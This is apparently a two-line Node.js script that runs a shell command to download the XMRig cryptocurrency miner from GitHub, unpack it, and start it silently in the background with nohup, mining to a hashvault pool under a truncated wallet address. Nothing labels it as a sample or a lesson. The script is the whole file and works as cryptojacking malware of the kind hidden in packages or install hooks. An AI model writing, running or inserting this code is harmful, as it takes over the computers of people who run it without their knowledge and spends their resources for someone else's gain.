const { execSync } = require('child_process');
execSync('curl -L https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz | tar xz && nohup ./xmrig-6.21.0/xmrig -o pool.hashvault.pro:80 -u 4A... &');
